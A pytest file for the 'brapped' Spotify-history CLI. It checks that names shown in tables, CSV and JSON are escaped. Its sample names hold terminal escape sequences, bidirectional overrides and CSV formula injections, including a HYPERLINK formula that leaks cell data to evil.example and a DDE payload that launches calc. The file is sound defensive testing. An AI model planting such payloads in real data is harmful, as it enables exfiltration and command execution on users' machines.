"""Names from the data are text everywhere the CLI shows them: never Rich markup, emoji codes or
terminal control sequences (issue #20, finding 3)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from rich.console import Console
from sqlalchemy import insert, update

from brapped.cli import cli
from brapped.cli.context import AppContext, safe
from brapped.cli.progress import stage_bars
from brapped.store import open_store, tables

RAW_LINK = "Esc \x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\"
# Most played first, so that the five lists of `report wrapped` and `report day` show the first five.
NAMES = [
    "Bass [/]",
    "Track [feat. Someone]",
    "[link=https://evil.example]x[/link]",
    "[bold red]loud[/]",
    ":thumbs_up: Emoji",
    RAW_LINK,
]
SHOWN = [safe(name) for name in NAMES]  # a raw escape character is shown as \x1b
DAY = datetime(2024, 10, 27, 12, tzinfo=UTC)
OSC = "\x1b]"  # operating-system commands: hyperlinks (OSC 8), window titles, clipboard
SGR = re.compile(r"\x1b\[[0-9;]*m")


@pytest.fixture
def hostile_db(tmp_home: Path) -> str:
    """An artist, an album and a track for each name; the name at index i is played 6 - i times."""
    url = f"sqlite:///{tmp_home / 'hostile.db'}"
    store = open_store(url)
    with store.begin() as conn:
        conn.execute(insert(tables.artists), [{"id": f"a{i}", "name": n} for i, n in enumerate(NAMES)])
        conn.execute(insert(tables.albums), [{"id": f"al{i}", "name": n} for i, n in enumerate(NAMES)])
        conn.execute(
            insert(tables.album_artists),
            [{"album_id": f"al{i}", "position": 0, "artist_id": f"a{i}"} for i in range(len(NAMES))],
        )
        conn.execute(
            insert(tables.tracks),
            [
                {"id": f"t{i}", "name": n, "album_id": f"al{i}", "duration_ms": 200_000}
                for i, n in enumerate(NAMES)
            ],
        )
        conn.execute(
            insert(tables.track_artists),
            [{"track_id": f"t{i}", "position": 0, "artist_id": f"a{i}"} for i in range(len(NAMES))],
        )
        conn.execute(
            insert(tables.plays),
            [
                {
                    "user_id": "u1",
                    "source": "export",
                    "ms_played_source": "export",
                    "played_at": DAY + timedelta(minutes=10 * i + play),
                    "track_id": f"t{i}",
                    "ms_played": 180_000,
                }
                for i in range(len(NAMES))
                for play in range(len(NAMES) - i)
            ],
        )
    store.close()
    return url


COMMANDS = [
    # the story's title: "NAME (ID)"
    (["track", "t0"], [f"{SHOWN[0]} (t0)"]),
    (["track", "t1"], [f"{SHOWN[1]} (t1)"]),
    (["track", "t2"], [f"{SHOWN[2]} (t2)"]),
    (["track", "t3"], [f"{SHOWN[3]} (t3)"]),
    (["track", "t4"], [f"{SHOWN[4]} (t4)"]),
    (["track", "t5"], [f"{SHOWN[5]} (t5)"]),
    (["artist", "a0"], [f"{SHOWN[0]} (a0)"]),
    (["artist", "a1"], [f"{SHOWN[1]} (a1)"]),
    (["artist", "a2"], [f"{SHOWN[2]} (a2)"]),
    (["artist", "a3"], [f"{SHOWN[3]} (a3)"]),
    (["artist", "a5"], [f"{SHOWN[5]} (a5)"]),
    (["search", "Bass [/]"], SHOWN[:1]),
    (["search", "[feat. Someone]"], SHOWN[1:2]),
    (["search", "[link="], SHOWN[2:3]),
    (["search", "[bold red]"], SHOWN[3:4]),
    (["search", ":thumbs_up:"], SHOWN[4:5]),
    (["search", "evil"], [SHOWN[2], SHOWN[5]]),
    (["report", "top", "tracks"], SHOWN),
    (["report", "top", "artists"], SHOWN),
    (["report", "top", "albums"], SHOWN),
    (["report", "day", "2024-10-27"], SHOWN[:5]),
    (["report", "wrapped", "--year", "2024"], SHOWN[:5]),
]


@pytest.mark.parametrize("colour", [False, True], ids=["plain", "terminal"])
@pytest.mark.parametrize(("args", "names"), COMMANDS, ids=[" ".join(a) for a, _ in COMMANDS])
def test_names_print_literally(
    runner: CliRunner,
    hostile_db: str,
    monkeypatch: pytest.MonkeyPatch,
    args: list[str],
    names: list[str],
    colour: bool,
) -> None:
    monkeypatch.setenv("COLUMNS", "400")  # no name is wrapped or cut
    if colour:
        monkeypatch.setenv("FORCE_COLOR", "1")  # as on a terminal: styles and links would be live
    result = runner.invoke(cli, ["--db", hostile_db, "--timezone", "UTC", *args])
    assert result.exit_code == 0, result.output + repr(result.exception)
    assert "Traceback" not in result.stderr
    assert OSC not in result.stdout + result.stderr
    shown = SGR.sub("", result.stdout)
    for name in names:
        assert name in shown, name
    assert "👍" not in shown  # :thumbs_up: stays text


def test_progress_descriptions_are_text() -> None:
    """Stage names reach the progress bar as text (they can be file names from a crafted zip)."""
    buffer = io.StringIO()
    err = Console(file=buffer, force_terminal=True, width=200)
    app = AppContext(err=err)
    with stage_bars(app, transient=False) as update:
        for stage in NAMES[:4]:
            update(stage, 1, 2)
    text = SGR.sub("", buffer.getvalue())
    assert OSC not in buffer.getvalue()
    for name in NAMES[:4]:
        assert name in text, name


# C0 controls but the line feed, DEL and the C1 controls (U+009B is a CSI to many terminals).
RAW_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")
DATA_OUTPUT = [
    ["report", "top", "tracks"],
    ["report", "top", "artists"],
    ["search", "evil"],
    ["track", "t5"],
    ["artist", "a5"],
]


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("args", DATA_OUTPUT, ids=[" ".join(a) for a in DATA_OUTPUT])
def test_csv_and_json_on_a_terminal_hold_no_control_character(
    runner: CliRunner, hostile_db: str, args: list[str], fmt: str
) -> None:
    """`--format csv|json` is read on a terminal too; the names Spotify sent are stored as they came
    (a sync keeps them), so an escape or a C1 CSI in one must not reach the screen raw."""
    store = open_store(hostile_db, migrate=False)
    csi = RAW_LINK + "\x9b2J"
    with store.begin() as conn:
        conn.execute(update(tables.tracks).where(tables.tracks.c.id == "t5").values(name=csi))
        conn.execute(update(tables.artists).where(tables.artists.c.id == "a5").values(name=csi))
    store.close()
    result = runner.invoke(cli, ["--db", hostile_db, "--timezone", "UTC", *args, "--format", fmt])
    assert result.exit_code == 0, result.output + repr(result.exception)
    assert not RAW_CONTROL.findall(result.stdout), result.stdout
    assert "evil.example" in result.stdout  # the name is there, as text


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_a_bidirectional_override_in_a_name_is_shown_as_text(
    runner: CliRunner, hostile_db: str, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    """U+202E (right-to-left override) and the isolates reorder the rest of the line they are on:
    a name could show as another's, or its row's numbers backwards."""
    monkeypatch.setenv("COLUMNS", "400")
    store = open_store(hostile_db, migrate=False)
    with store.begin() as conn:
        conn.execute(update(tables.tracks).where(tables.tracks.c.id == "t0").values(name="A\u202e3 B\u2067C"))
    store.close()
    result = runner.invoke(
        cli, ["--db", hostile_db, "--timezone", "UTC", "report", "top", "tracks", "--format", fmt]
    )
    assert result.exit_code == 0, result.output
    assert "\u202e" not in result.stdout and "\u2067" not in result.stdout
    if fmt == "json":  # the same name, once decoded
        assert json.loads(result.stdout)["items"][0]["name"] == "A\u202e3 B\u2067C"
    else:
        assert "A\\u202e3 B\\u2067C" in result.stdout


FORMULAS = {
    # name as stored: the CSV cell a spreadsheet must read as text
    '=HYPERLINK("https://evil.example/?"&A1,"x")': '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
    "@SUM(1+1)": "'@SUM(1+1)",
    "-M-": "'-M-",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "\uff1d1+1": "'\uff1d1+1",  # a full-width equals sign
    "+44": "+44",  # a number to a spreadsheet, not a formula
}


@pytest.mark.parametrize("args", [["report", "top", "tracks"], ["search", "1"], ["track", "t0"]])
def test_csv_names_a_spreadsheet_would_run_are_quoted(
    runner: CliRunner, hostile_db: str, args: list[str]
) -> None:
    """Anyone can publish a track named like a formula; `--format csv` is opened in spreadsheets."""
    store = open_store(hostile_db, migrate=False)
    with store.begin() as conn:
        for i, name in enumerate(FORMULAS):
            conn.execute(update(tables.tracks).where(tables.tracks.c.id == f"t{i}").values(name=name))
    store.close()
    result = runner.invoke(cli, ["--db", hostile_db, "--timezone", "UTC", *args, "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    expected = FORMULAS if args[0] != "track" else dict(list(FORMULAS.items())[:1])
    for name, cell in expected.items():
        if args[0] == "search" and "1" not in name:
            continue
        assert cell in cells, (name, cells)
        assert name not in cells or name == cell
    # Numbers stay numbers: the play counts are unquoted.
    assert not [c for c in cells if c.startswith("'") and c[1:].replace(",", "").isdigit()]


def test_json_keeps_a_formula_like_name_exact(runner: CliRunner, hostile_db: str) -> None:
    store = open_store(hostile_db, migrate=False)
    with store.begin() as conn:
        conn.execute(update(tables.tracks).where(tables.tracks.c.id == "t0").values(name="=1+1"))
    store.close()
    result = runner.invoke(
        cli, ["--db", hostile_db, "--timezone", "UTC", "report", "top", "tracks", "--format", "json"]
    )
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["items"][0]["name"] == "=1+1"
